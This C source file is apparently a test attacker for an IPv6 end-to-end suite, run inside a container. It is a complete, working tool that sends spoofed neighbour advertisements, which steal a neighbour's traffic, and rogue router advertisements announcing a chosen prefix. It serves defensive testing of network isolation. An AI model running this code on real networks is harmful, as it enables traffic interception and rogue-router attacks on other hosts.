/*
 * Test attacker for IPv6 neighbour discovery: from a raw ICMPv6 socket (CAP_NET_RAW, which
 * containers have), sends unsolicited neighbour advertisements claiming TARGET for this
 * interface's MAC (the IPv6 twin of a gratuitous ARP: steal a neighbour's traffic), or router
 * advertisements of PREFIX (a rogue router). Usage:
 *   nd6 IFACE na TARGET COUNT     (source: the interface's own global address, so that only the
 *                                  advertisement's target is false)
 *   nd6 IFACE ra PREFIX COUNT     (source: the interface's link-local address, as RAs must be)
 * Built by the IPv6 e2e test and run inside a container.
 */
#include <arpa/inet.h>
#include <ifaddrs.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

/* The interface's first address of the wanted scope (link-local or not). */
static int own_address(const char *ifname, int linklocal, struct in6_addr *out) {
  struct ifaddrs *ifa, *i;
  if (getifaddrs(&ifa)) return -1;
  int found = -1;
  for (i = ifa; i; i = i->ifa_next) {
    if (!i->ifa_addr || i->ifa_addr->sa_family != AF_INET6 || strcmp(i->ifa_name, ifname)) continue;
    struct in6_addr a = ((struct sockaddr_in6 *)i->ifa_addr)->sin6_addr;
    if (!!IN6_IS_ADDR_LINKLOCAL(&a) != linklocal) continue;
    *out = a;
    found = 0;
    break;
  }
  freeifaddrs(ifa);
  return found;
}

int main(int argc, char **argv) {
  if (argc != 5 || (strcmp(argv[2], "na") && strcmp(argv[2], "ra"))) { fprintf(stderr, "usage: nd6 IFACE na TARGET COUNT | nd6 IFACE ra PREFIX COUNT\n"); return 2; }
  int ra = !strcmp(argv[2], "ra");
  unsigned idx = if_nametoindex(argv[1]);
  if (!idx) { perror("if_nametoindex"); return 1; }
  int s = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
  if (s < 0) { perror("socket"); return 1; }
  struct ifreq ifr = {0};
  strncpy(ifr.ifr_name, argv[1], IFNAMSIZ - 1);
  if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0) { perror("SIOCGIFHWADDR"); return 1; }
  unsigned char mac[6];
  memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
  int hops = 255; /* neighbour discovery is accepted only with hop limit 255 (RFC 4861 7.1.2) */
  setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
  setsockopt(s, IPPROTO_IPV6, IPV6_UNICAST_HOPS, &hops, sizeof hops);
  setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_IF, &idx, sizeof idx);
  struct sockaddr_in6 src = { .sin6_family = AF_INET6, .sin6_scope_id = idx };
  if (own_address(argv[1], ra, &src.sin6_addr)) { fprintf(stderr, "no %s address on %s\n", ra ? "link-local" : "global", argv[1]); return 1; }
  if (bind(s, (struct sockaddr *)&src, sizeof src)) { perror("bind"); return 1; }
  unsigned char m[64] = {0};
  size_t len;
  struct in6_addr a;
  if (inet_pton(AF_INET6, argv[3], &a) != 1) { fprintf(stderr, "bad address %s\n", argv[3]); return 2; }
  if (!ra) {
    /* type 136, code 0, checksum (the kernel's), flags: override, target, target link-layer address option */
    m[0] = ND_NEIGHBOR_ADVERT;
    m[4] = 0x20;
    memcpy(m + 8, &a, 16);
    m[24] = ND_OPT_TARGET_LINKADDR; m[25] = 1; memcpy(m + 26, mac, 6);
    len = 32;
  } else {
    /* type 134: hop limit 64, router lifetime 1800 s; a prefix information option (on-link,
     * autonomous, /64) and the source link-layer address option */
    m[0] = ND_ROUTER_ADVERT; m[4] = 64; m[6] = 0x07; m[7] = 0x08;
    m[16] = ND_OPT_PREFIX_INFORMATION; m[17] = 4; m[18] = 64; m[19] = 0xc0;
    m[20] = 0; m[21] = 1; m[22] = 0x51; m[23] = 0x80; /* valid 86400 */
    m[24] = 0; m[25] = 0; m[26] = 0x38; m[27] = 0x40; /* preferred 14400 */
    memcpy(m + 32, &a, 16);
    m[48] = ND_OPT_SOURCE_LINKADDR; m[49] = 1; memcpy(m + 50, mac, 6);
    len = 56;
  }
  struct sockaddr_in6 to = { .sin6_family = AF_INET6, .sin6_scope_id = idx };
  inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
  for (int i = 0; i < atoi(argv[4]); i++) {
    if (sendto(s, m, len, 0, (struct sockaddr *)&to, sizeof to) < 0) { perror("sendto"); return 1; }
    usleep(100000);
  }
  printf("sent %s %s claiming %s\n", argv[4], ra ? "router advertisements" : "neighbour advertisements", argv[3]);
  return 0;
}
